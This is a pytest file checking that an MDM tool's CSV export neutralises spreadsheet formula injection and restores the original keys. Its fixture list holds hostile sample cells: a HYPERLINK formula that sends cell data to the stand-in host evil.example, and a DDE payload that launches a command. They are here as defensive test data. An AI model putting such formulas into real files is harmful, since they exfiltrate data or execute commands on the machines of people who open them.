"""CSV exports cannot smuggle spreadsheet formulas (issue 11): a source key that
starts like a formula is written with a leading ``'`` by ``mdm export xrefs``, and
``unguard_cell`` gives the exact key back."""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
from pathlib import Path

from mdm.ingest.mapping import load_mapping
from mdm.services.export import guard_cell, unguard_cell
from mdm.services.ingest import ingest_file
from mdm.store.db import make_engine

KEYS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=1+2",
    "+84912345678",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=cmd|' /C calc'!A0",
    "\r=1",
    "'=already quoted",
    "plain-key-1",
    "HN-0001=x",
]


def test_guard_round_trips() -> None:
    for key in KEYS:
        guarded = guard_cell(key)
        assert not guarded.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert unguard_cell(guarded) == key


def test_xrefs_export_neutralizes_formulas(fresh_db_url: str, tmp_path: Path) -> None:
    mapping = tmp_path / "m.yaml"
    mapping.write_text(
        "source_system: formula-test\nentity_type: citizen\nformat: jsonl\nsource_key: k\n"
        "fields:\n  full_name: name\n",
        encoding="utf-8",
    )
    data = tmp_path / "in.jsonl"
    data.write_text(
        "\n".join(json.dumps({"k": k, "name": "Trần Văn Bảy"}) for k in KEYS) + "\n", "utf-8"
    )
    engine = make_engine(fresh_db_url)
    try:
        s = ingest_file(engine, load_mapping(mapping), data, report_dir=tmp_path / "rep")
    finally:
        engine.dispose()
    assert s.new == len(KEYS), s.rejected_by_reason
    out = tmp_path / "xrefs.csv"
    done = subprocess.run(
        [sys.executable, "-m", "mdm", "export", "xrefs", "--entity", "citizen", "--out", str(out)],
        env={**os.environ, "MDM_DATABASE_URL": fresh_db_url},
        capture_output=True,
        text=True,
    )
    assert done.returncode == 0, done.stderr
    with out.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["source_system", "source_key", "canonical_id"]
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    # (ingest strips the whitespace around a key: "\t=cmd..." is stored as "=cmd...")
    assert sorted(unguard_cell(r[1]) for r in rows[1:]) == sorted(k.strip() for k in KEYS)
